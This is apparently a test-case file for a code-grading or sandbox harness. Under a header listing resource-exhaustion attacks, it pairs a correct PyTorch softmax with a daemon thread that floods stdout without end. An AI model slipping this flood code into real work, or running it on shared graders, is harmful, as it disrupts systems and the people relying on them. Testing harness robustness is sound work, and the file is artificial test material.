"""
tries = "to print without end between the calls too, from a thread"
entry = "fork bomb, thread flood, memory bomb, disk fill, descriptor exhaustion, output flood"
lesson = "softmax"
state = "any"
score = 10.0
at_most = true
"""

import os
import threading
import time

import torch


def flood():
    time.sleep(0.02)
    while True:
        os.write(1, b"x" * 65536)


threading.Thread(target=flood, daemon=True).start()


def softmax(x, dim=-1):
    powers = torch.exp(x - x.amax(dim=dim, keepdim=True))
    return powers / powers.sum(dim=dim, keepdim=True)
